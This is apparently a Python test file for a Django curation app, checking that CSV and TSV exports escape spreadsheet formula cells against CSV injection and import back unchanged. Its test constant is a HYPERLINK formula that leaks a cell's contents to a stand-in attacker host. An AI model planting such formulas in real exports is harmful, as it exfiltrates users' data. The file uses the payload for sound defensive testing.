"""CSV and TSV exports keep spreadsheets from running cells as formulas ("CSV injection",
OWASP): a cell that starts with = + - @ (or a tab, a CR or a ') gets a leading ', which the
CSV/TSV import removes again, so an export still imports back to the same examples.
`formulas=raw` writes the cells as stored, for programs."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from rest_framework.test import APIClient

from curation.core.services import example_create
from curation.formats.tabular import escape_formula, unescape_formula
from curation.io.exports import example_export
from curation.io.imports import example_import, import_job_create
from curation.models import Example, ImportJob, Label, Project
from tests.conftest import PASSWORD

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'

# The export takes approved examples unless told otherwise; these tests export every status.
EVERY_STATUS = ["draft", "needs_review", "approved", "rejected"]


def user(text: str) -> dict:
    return {"role": "user", "content": text}


def assistant(text: str) -> dict:
    return {"role": "assistant", "content": text}


# Every character a spreadsheet reads as the start of a formula, a quote already in front of
# one (which must survive the round trip), and text that must not change at all.
CHATS = [
    [user(ATTACK), assistant("+1 555 0100 is our number.")],
    [{"role": "system", "content": "@everyone: be brief."}, user("Is it cold?"), assistant("-5 degrees today.")],
    [user("'=1+1 is how a spreadsheet shows a formula as text"), assistant("'quoted' and fine")],
    [user("\tindented question"), assistant("= is the equals sign")],
    [user("Plain question"), assistant("Plain answer, with a - in the middle.")],
]


def make_project(slug: str, kind: str = Project.Kind.CHAT) -> Project:
    project = Project.objects.create(name=slug, slug=slug, kind=kind)
    Label.objects.create(project=project, name="billing")
    return project


@pytest.fixture
def owner(django_user_model):
    return django_user_model.objects.create_user(username="owner", password=PASSWORD)


@pytest.fixture
def chats(owner) -> Project:
    project = make_project("formula-chats")
    for messages in CHATS:
        example_create(project=project, user=owner, messages=messages, label="billing", split="train")
    return project


def export_text(project: Project, format: str = "csv", **options) -> str:
    _type, _name, chunks = example_export(project=project, status="any", format=format, **options)
    return b"".join(chunks).decode("utf-8-sig")


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def reimport(text: str, format: str, owner) -> Project:
    target = make_project(f"formula-copy-{Project.objects.count()}")
    data = text.encode("utf-8")
    job = import_job_create(project=target, user=owner, fileobj=io.BytesIO(data), filename="export", format=format)
    job = example_import(job=job)
    assert job.status == ImportJob.Status.SUCCEEDED, job.report
    return target


def messages_of(project: Project) -> list[list[dict]]:
    return [e.messages for e in Example.objects.filter(project=project).order_by("pk")]


def test_a_formula_cell_is_neutralised_in_the_csv_export(chats):
    rows = cells(export_text(chats))

    assert rows[0] == ["system", "instruction", "output", "label", "split"]  # the header is ours, untouched
    assert rows[1][1] == "'" + ATTACK
    assert rows[1][2] == "'+1 555 0100 is our number."
    assert rows[2][0] == "'@everyone: be brief." and rows[2][2] == "'-5 degrees today."
    assert rows[3][1] == "''=1+1 is how a spreadsheet shows a formula as text"
    assert rows[3][2] == "''quoted' and fine"
    assert rows[4][1] == "'\tindented question"
    assert rows[5][1:3] == ["Plain question", "Plain answer, with a - in the middle."]


def test_the_tsv_export_neutralises_formulas_too(chats):
    rows = cells(export_text(chats, "tsv"), "\t")

    assert rows[1][1] == "'" + ATTACK and rows[4][1] == "'\tindented question"


@pytest.mark.parametrize("format", ["csv", "tsv"])
def test_an_escaped_export_imports_back_to_the_same_text(chats, owner, format):
    copy = reimport(export_text(chats, format), format, owner)

    assert messages_of(copy) == messages_of(chats)


@pytest.mark.parametrize("format", ["csv", "tsv"])
def test_raw_formulas_keep_the_cells_as_stored(chats, format):
    rows = cells(export_text(chats, format, formulas="raw"), "," if format == "csv" else "\t")

    assert rows[1][1] == ATTACK
    assert rows[2][0] == "@everyone: be brief."
    assert rows[3][1] == "'=1+1 is how a spreadsheet shows a formula as text"


def test_a_classification_export_neutralises_the_text_and_imports_back(owner):
    project = make_project("formula-tickets", Project.Kind.CLASSIFICATION)
    for text in (ATTACK, "-1 star, never again", "Fine"):
        example_create(project=project, user=owner, messages=[user(text)], label="billing")

    text = export_text(project)
    target = make_project("formula-tickets-copy", Project.Kind.CLASSIFICATION)
    job = import_job_create(
        project=target, user=owner, fileobj=io.BytesIO(text.encode()), filename="export", format="csv"
    )
    example_import(job=job)

    assert [r[0] for r in cells(text)[1:]] == ["'" + ATTACK, "'-1 star, never again", "Fine"]
    assert messages_of(target) == messages_of(project)


def test_an_imported_quote_is_dropped_only_where_an_export_would_have_put_one(owner):
    text = "text,label\n'=SUM(A1),billing\n'quoted,billing\n''x,billing\n"

    copy = reimport(text, "csv", owner)

    assert [m[0]["content"] for m in messages_of(copy)] == ["=SUM(A1)", "'quoted", "'x"]


@pytest.mark.parametrize("cell", ["", "'", "''", "=", "'=", "+-", "\r\n", "a=b", "'a", "@'", "\t'"])
def test_escaping_is_undone_exactly(cell):
    assert unescape_formula(escape_formula(cell)) == cell
    assert not escape_formula(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


def api_as(username: str) -> APIClient:
    client = APIClient()
    client.login(username=username, password=PASSWORD)
    return client


def api_export(project: Project, **params) -> tuple[int, str | dict]:
    response = api_as("rhea").get(f"/api/projects/{project.slug}/export/", {"status": "any", **params})
    if response.status_code != 200:
        return response.status_code, response.json()
    return 200, b"".join(response.streaming_content).decode("utf-8-sig")


def test_the_api_neutralises_formulas_unless_asked_for_raw_cells(project, users):
    example_create(project=project, user=users["annotator"], messages=[user(ATTACK), assistant("ok")])

    status, escaped = api_export(project, format="csv")
    raw_status, raw = api_export(project, format="csv", formulas="raw")

    assert status == raw_status == 200
    assert cells(escaped)[1][1] == "'" + ATTACK
    assert cells(raw)[1][1] == ATTACK


def test_the_api_refuses_an_unknown_formulas_option(project, users):
    status, body = api_export(project, format="csv", formulas="keep")

    assert status == 400
    assert body == {"formulas": ['unknown formulas option "keep"; expected one of escaped, raw']}


def test_the_export_page_neutralises_formulas_unless_the_box_is_ticked(client, project, users):
    example_create(project=project, user=users["annotator"], messages=[user(ATTACK), assistant("ok")])
    client.force_login(users["reviewer"])
    url = f"/p/{project.slug}/export/"

    page = client.get(url)
    escaped = client.get(url, {"format": "csv", "status": EVERY_STATUS})
    raw = client.get(url, {"format": "csv", "status": EVERY_STATUS, "raw_formulas": "on"})

    assert "Keep formulas raw" in page.content.decode()
    assert cells(b"".join(escaped.streaming_content).decode("utf-8-sig"))[1][1] == "'" + ATTACK
    assert cells(b"".join(raw.streaming_content).decode("utf-8-sig"))[1][1] == ATTACK


def test_the_export_command_writes_raw_formulas_only_when_asked(chats, tmp_path):
    escaped, raw = tmp_path / "escaped.csv", tmp_path / "raw.csv"

    call_command("export_examples", chats.slug, "--status", "any", "--format", "csv", "-o", str(escaped))
    call_command("export_examples", chats.slug, "--status", "any", "--format", "csv", "--raw-formulas", "-o", str(raw))

    assert cells(escaped.read_text("utf-8-sig"))[1][1] == "'" + ATTACK
    assert cells(raw.read_text("utf-8-sig"))[1][1] == ATTACK
